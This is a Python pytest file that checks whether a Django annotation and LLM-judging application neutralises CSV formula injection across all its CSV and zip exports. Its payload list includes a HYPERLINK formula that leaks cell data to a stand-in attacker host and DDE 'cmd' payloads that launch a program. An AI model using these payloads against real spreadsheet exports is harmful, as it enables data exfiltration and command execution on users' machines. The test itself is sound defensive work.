"""Finding 4: CSV formula injection. Every CSV the app writes (pages, API, the study zip) goes
through one writer that neutralises cells a spreadsheet would run as a formula.

Payloads are planted where LLM output and imported text end up (a message, an external id, a
chatbot's name and model, a persona key, a judge's rationale, a rater's note, a consensus
reason, a username), then every CSV endpoint is fetched and every cell is checked.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile

import pytest
from django.urls import URLPattern, URLResolver, get_resolver

from annotation.consensus.services import study_compute_consensus
from annotation.models import Assignment, AssignmentStatus, ConsensusLabel, Rating, RatingStatus
from annotation.studies.services import study_create
from corpus.instruments.services import builtin_instruments_load
from judging import services as judging
from judging.models import JudgeLabel
from tests.conftest import client_for, make_user
from tests.factories import ConversationFactory, PersonaFactory, TargetFactory
from tests.judging.conftest import checklist_reply

HYPERLINK = '=HYPERLINK("http://attacker.example/?d="&A1,"click")'
PAYLOADS = [HYPERLINK, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
PLAIN_NUMBER = re.compile(r"^[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?$")
KEY_ENV = "CSV_TEST_API_KEY"


def dangerous_cells(text: str) -> list[str]:
    """Return the cells of a CSV text that a spreadsheet would evaluate as a formula."""
    return [
        cell
        for row in csv.reader(io.StringIO(text))
        for cell in row
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not PLAIN_NUMBER.match(cell)
    ]


@pytest.fixture
def planted(fake_llm, coordinator, clinician, monkeypatch, django_capture_on_commit_callbacks):  # type: ignore[no-untyped-def]
    monkeypatch.setenv(KEY_ENV, "sk-test-not-real")
    amhart, section = builtin_instruments_load()
    rater = make_user("@evil+rater", "clinician")  # usernames may start with @
    target = TargetFactory(name=PAYLOADS[1], model=PAYLOADS[0])
    persona = PersonaFactory(key="-persona+cmd", name=PAYLOADS[3])
    conversations = [
        ConversationFactory(
            persona=persona, target=target, external_id=PAYLOADS[2],
            messages=[("user", PAYLOADS[0]), ("assistant", PAYLOADS[3])],
        )
        for _ in range(2)
    ]
    study = study_create(
        name="CSV study", instrument=amhart, section=section, conversation_ids=[c.pk for c in conversations],
        created_by=coordinator, coordinators=[coordinator], raters=[(clinician, "clinician"), (rater, "clinician")],
    )
    items = list(amhart.items.values_list("key", flat=True))
    for conversation in conversations:
        for user, label in ((clinician, "yes"), (rater, "no")):
            assignment = Assignment.objects.create(study=study, conversation=conversation, rater=user, status=AssignmentStatus.SUBMITTED)
            answers = {key: {"value": "no"} for key in items}
            answers["amhart_01"] = {"value": label, "note": PAYLOADS[4]}
            Rating.objects.create(assignment=assignment, status=RatingStatus.SUBMITTED, answers={"main": answers})
    study_compute_consensus(study=study, actor=coordinator)
    ConsensusLabel.objects.filter(study=study).update(reason=PAYLOADS[0])
    fake_llm.script("csv-judge", [checklist_reply({}, default="no")])
    judge = judging.judge_create(
        name="csv-judge", instrument=amhart, model="openai/csv-judge", provider="csv",
        api_base=fake_llm.base_url, api_key_env=KEY_ENV,
    )
    with django_capture_on_commit_callbacks(execute=True):
        run = judging.judge_run_create(judges=[judge], conversation_ids=[c.pk for c in conversations])
    run.refresh_from_db()
    JudgeLabel.objects.filter(result__run=run).update(rationale=HYPERLINK)
    return study, run


def _csv_route_names() -> set[str]:
    """Return the names of every URL pattern that answers CSV (its route ends in .csv or .zip)."""
    names: set[str] = set()

    def walk(patterns, namespace: str = "") -> None:  # type: ignore[no-untyped-def]
        for p in patterns:
            if isinstance(p, URLResolver):
                walk(p.url_patterns, f"{namespace}{p.namespace}:" if p.namespace else namespace)
            elif isinstance(p, URLPattern) and re.search(r"(csv|zip)", str(p.pattern)):
                names.add(f"{namespace}{p.name}")

    walk(get_resolver().url_patterns)
    return names


def test_every_csv_export_neutralises_formulas(planted, coordinator, researcher, clinician):
    from annotation.sampling.selectors import PlanOptions
    from annotation.sampling.services import study_create_from_plan

    study, run = planted
    from annotation.flags.services import conversation_flag

    flagged = Assignment.objects.filter(study=study, rater=clinician).first()
    conversation_flag(assignment=flagged, user=clinician, reason="other", note=PAYLOADS[1])  # the audit trail too
    planned = study_create_from_plan(
        run=run, source_key=None, options=PlanOptions(method="simple_random", n=2, seed=1), created_by=coordinator,
        name="Planned", rater_title="", description="", section=None, coordinators=[coordinator],
        raters=[(clinician, "clinician")], raters_per_conversation=1,
    )
    from reports.devset.services import final_declare, split_make, test_set_evaluate
    from reports.review.codes import (
        failure_category_create,
        failure_code_add,
        failure_codes_categorise,
    )

    coded = study.study_conversations.select_related("conversation").first().conversation
    failure_code_add(study=study, conversation=coded, item_key="amhart_01", text=PAYLOADS[0], judge="", actor=researcher)
    category = failure_category_create(study=study, name=PAYLOADS[2], actor=researcher)
    failure_codes_categorise(study=study, texts=[PAYLOADS[0]], category=category, actor=researcher)
    split_make(study=study, actor=coordinator, n_test=1, seed=1)
    declaration, _ = final_declare(study=study, run=run, source="", actor=researcher, note=PAYLOADS[0])
    look, _ = test_set_evaluate(study=study, declaration=declaration, actor=researcher)
    from annotation.sampling.active.services import ActiveOptions, active_study_create
    from corpus.models import Conversation
    from tests.support.active_study import active_run

    active_from, _ = active_run(list(Conversation.objects.filter(study_links__study=study)), prefix="csv")
    active = active_study_create(
        run=active_from, source_key=None, options=ActiveOptions(budget=2, batch_size=2, target_width=0.1, seed=1),
        created_by=coordinator, name="Active", section=None, coordinators=[coordinator], raters=[(clinician, "clinician")],
        raters_per_conversation=1,
    )
    urls = {
        "reports:development-csv": [f"/reports/studies/{study.pk}/development/{t}.csv" for t in ("split", "versions", "looks")],
        "reports:development-look-csv": [f"/reports/studies/{study.pk}/development/looks/{look.pk}.csv"],
        "annotation:study-active-csv": [f"/studies/{active.pk}/active-sampling.csv"],
        "annotation:study-active-estimates-csv": [f"/studies/{active.pk}/active-estimates.csv"],
        "corpus:conversation-export": ["/corpus/conversations/export.csv"],
        "v1:conversation-export (API)": ["/api/v1/conversations/export/?as=csv"],
        "judging:run-export": [f"/judging/runs/{run.pk}/export/{fmt}.csv" for fmt in ("long", "dimensions", "ensemble")],
        "v1:judge-run-labels (API)": [f"/api/v1/judge-runs/{run.pk}/labels/?as={fmt}" for fmt in ("long", "dimensions", "ensemble")],
        "annotation:study-progress-csv": [f"/studies/{study.pk}/progress/{t}.csv" for t in ("raters", "conversations")],
        "annotation:study-consensus-csv": [f"/studies/{study.pk}/consensus.csv"],
        "annotation:study-audit-csv": [f"/studies/{study.pk}/audit.csv"],
        "annotation:study-flags-csv": [f"/studies/{study.pk}/flags.csv"],
        "annotation:study-gold-csv": [f"/studies/{study.pk}/gold.csv"],
        "reports:reliability-csv": [f"/reports/studies/{study.pk}/reliability.csv"],
        "reports:realism-csv": [f"/reports/studies/{study.pk}/realism.csv"],
        "reports:scorecard-csv": [f"/reports/studies/{study.pk}/scorecard/{t}.csv" for t in ("by_chatbot", "by_chatbot_persona", "per_conversation")],
        "reports:judges-csv": [f"/reports/studies/{study.pk}/judges.csv?run={run.pk}"],
        "reports:judges-table-csv": [
            f"/reports/studies/{study.pk}/judges/{t}.csv?run={run.pk}" for t in ("alt-test", "alt-test-raters", "leave-one-out")
        ],
        "reports:run-scorecard-csv": [f"/reports/runs/{run.pk}/scorecard/{t}.csv" for t in ("by_chatbot", "by_chatbot_persona", "per_conversation")],
        "reports:study-export": [f"/reports/studies/{study.pk}/export.zip"],
        "reports:study-bundle-download": [f"/reports/studies/{study.pk}/bundle.zip"],
        "annotation:study-plan-csv": [f"/studies/{planned.pk}/sampling-plan.csv"],
        "reports:judge-assisted-csv": [f"/reports/studies/{study.pk}/judge-assisted.csv?run={run.pk}"],
        "reports:raters-csv": [f"/reports/studies/{study.pk}/raters.csv"],
        "reports:drift-csv": [f"/reports/drift/{t}.csv?a_run={run.pk}&b_run={run.pk}&study={study.pk}" for t in ("items", "flips")],
        "reports:leaderboard-csv": [f"/reports/studies/{study.pk}/leaderboard/{t}.csv?run={run.pk}" for t in ("scores", "pairs")],
        "reports:run-leaderboard-csv": [f"/reports/runs/{run.pk}/leaderboard/{t}.csv" for t in ("scores", "pairs")],
        "reports:instances-csv": [f"/reports/studies/{study.pk}/instances.csv", f"/reports/studies/{study.pk}/instances.csv?run={run.pk}"],
        "reports:failure-codes-csv": [f"/reports/studies/{study.pk}/failure-modes/codes.csv"],
        "reports:failure-counts-csv": [f"/reports/studies/{study.pk}/failure-modes/counts.csv?by={by}" for by in ("judge", "item", "chatbot")],
        "reports:evidence-agreement-csv": [f"/reports/studies/{study.pk}/evidence-agreement.csv?run={run.pk}"],
    }
    # A new CSV route must be added above, so that it is checked too.
    assert _csv_route_names() <= {name.split(" ")[0] for name in urls}, _csv_route_names()

    client = client_for(coordinator)
    bodies: dict[str, str] = {}
    for paths in urls.values():
        for path in paths:
            response = client.get(path)
            if response.status_code == 404 and "scorecard" in path:
                continue  # a table this instrument's scorecard does not have
            assert response.status_code == 200, (path, response.status_code)
            raw = b"".join(response.streaming_content) if response.streaming else response.content
            if path.endswith(".zip"):
                archive = zipfile.ZipFile(io.BytesIO(raw))
                for member in archive.namelist():
                    if member.endswith(".csv"):
                        bodies[f"{path}!{member}"] = archive.read(member).decode()
            else:
                bodies[path] = raw.decode()
    problems = {where: cells for where, text in bodies.items() if (cells := dangerous_cells(text))}
    assert not problems, problems
    # The payloads did reach the exports (quoted), so the check above is not vacuous.
    everything = "\n".join(bodies.values())
    assert "'" + HYPERLINK.replace('"', '""') in everything
    assert "'@evil+rater" in everything
    assert "'-2+3+cmd" in everything
    assert any("scorecard" in where for where in bodies)


def test_numbers_stay_numbers():
    from core.csvstream import csv_text

    text = csv_text(["a", "b", "c"], [[-0.25, "-0.25", "+3"], ["-", "=1", "@x"]])
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1] == ["-0.25", "-0.25", "+3"]
    assert rows[2] == ["'-", "'=1", "'@x"]
